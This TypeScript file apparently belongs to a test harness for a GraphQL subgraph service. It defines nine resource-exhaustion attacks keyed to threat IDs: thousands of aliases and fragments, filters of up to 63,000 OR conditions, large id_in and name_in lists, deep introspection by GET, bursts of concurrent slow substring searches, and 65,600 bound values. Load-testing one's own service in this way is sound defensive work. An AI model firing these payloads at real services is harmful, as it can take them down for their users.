import { type Attack, atOnce, inRounds, pause, query, times } from "../attack.ts";

// Small, legal documents that are expensive to execute.

const wide = `{ domains(first: 1000) { ${times(7_400, (i) => `f${i}: id`)} } }`;

// 80 objects with 90 fields each in every row: about 7,200 values a row from 2 kB.
const fragments = `{ registrations(first: 1000) { ${times(80, (i) => `r${i}: domain { ...F }`)} } }
  fragment F on Domain { ${times(90, (i) => `a${i}: id`)} }`;

const introspection = () => {
  let inner = "name";
  for (let level = 0; level < 5; level++) inner = `interfaces{possibleTypes{${inner}}}`;
  return `{__schema{types{possibleTypes{${inner}}}}}`;
};

const aliases = (filter: string) =>
  `query($w: ${filter}) { ${times(1000, (i) => `a${i}: domains(first: 1, where: $w) { id }`)} }`;
const inAliases = (key: string, type: string) =>
  `query($v: [${type}!]) { ${times(1000, (i) => `a${i}: domains(first: 1, where: { ${key}: $v }) { id }`)} }`;

const conditions = (count: number) => ({
  w: {
    or: Array.from({ length: Math.ceil(count / 9_000) }, (_, group) => ({
      or: Array.from({ length: Math.min(count, 9_000) }, (_, i) => ({
        id: (group * 9_000 + i).toString(36),
      })),
    })),
  },
});

// Substring searches over all names, different ones in each request.
const slow = (place: number) =>
  `{ domains(where: { or: [${times(900, (i) => `{ name_contains_nocase: "a${i}%b${place}%c" }`, ",")}] }) { id } }`;

export const subgraphAttacks: Attack[] = [
  {
    name: "wide-rows",
    threat: "F5",
    what: "65 kB: 1,000 rows x 7,400 aliases of one field, three times",
    seconds: 60,
    run: (target) => inRounds(target, 3, async () => [await query(target, wide)]),
  },
  {
    name: "fragments",
    threat: "F5",
    what: "2 kB: 1,000 rows x 80 objects x 90 aliases by a fragment, twice",
    seconds: 60,
    run: (target) => inRounds(target, 2, async () => [await query(target, fragments)]),
  },
  {
    name: "filter-9000",
    threat: "F6",
    what: "1,000 aliases x one `where` variable of 9,000 conditions",
    seconds: 60,
    run: async (target) => [await query(target, aliases("Domain_filter"), conditions(9_000))],
  },
  {
    name: "filter-63000",
    threat: "F6",
    what: "1,000 aliases x one `where` variable of 63,000 conditions (1 MB)",
    seconds: 60,
    run: async (target) => [await query(target, aliases("Domain_filter"), conditions(63_000))],
  },
  {
    name: "id-in",
    threat: "F6",
    what: "1,000 aliases x one `id_in` of 10,000 values",
    seconds: 60,
    run: async (target) => {
      const v = Array.from({ length: 10_000 }, (_, i) => `0x${i.toString(16)}`);
      return [await query(target, inAliases("id_in", "ID"), { v })];
    },
  },
  {
    name: "name-in",
    threat: "F6",
    what: "1,000 aliases x one `name_in` of 3,000 names of 300 characters",
    seconds: 60,
    run: async (target) => {
      const v = Array.from({ length: 3_000 }, (_, i) => `${i}`.padEnd(300, "x"));
      return [await query(target, inAliases("name_in", "String"), { v })];
    },
  },
  {
    name: "introspection",
    threat: "F7",
    what: "a GET of 200 B: types of interfaces of types, five levels deep, three times",
    seconds: 60,
    run: (target) =>
      inRounds(target, 3, async () => [
        await query(target, "", undefined, {
          method: "GET",
          path: `/subgraph?query=${encodeURIComponent(introspection())}`,
          headers: { accept: "application/json" },
          body: undefined,
        }),
      ]),
  },
  {
    name: "slow-queries",
    threat: "F7",
    what: "80 slow queries of one client at once, again as soon as they end",
    seconds: 30,
    run: (target) =>
      inRounds(target, 3, async (round) => {
        const replies = await atOnce(80, (place) => query(target, slow(round * 80 + place)));
        await pause(target, 100);
        return replies;
      }),
  },
  {
    name: "bound-values",
    threat: "F10",
    what: "65,600 values to bind in one statement",
    seconds: 60,
    run: async (target) => {
      const parts = Array.from({ length: 8 }, (_, part) => [
        `w${part}`,
        { or: Array.from({ length: 8_200 }, (_, i) => ({ id: (part * 8_200 + i).toString(36) })) },
      ]);
      const text = `query(${times(8, (i) => `$w${i}: Domain_filter`, ",")}) { ${times(8, (i) => `a${i}: domains(first: 1, where: $w${i}) { id }`)} }`;
      return [await query(target, text, Object.fromEntries(parts))];
    },
  },
];
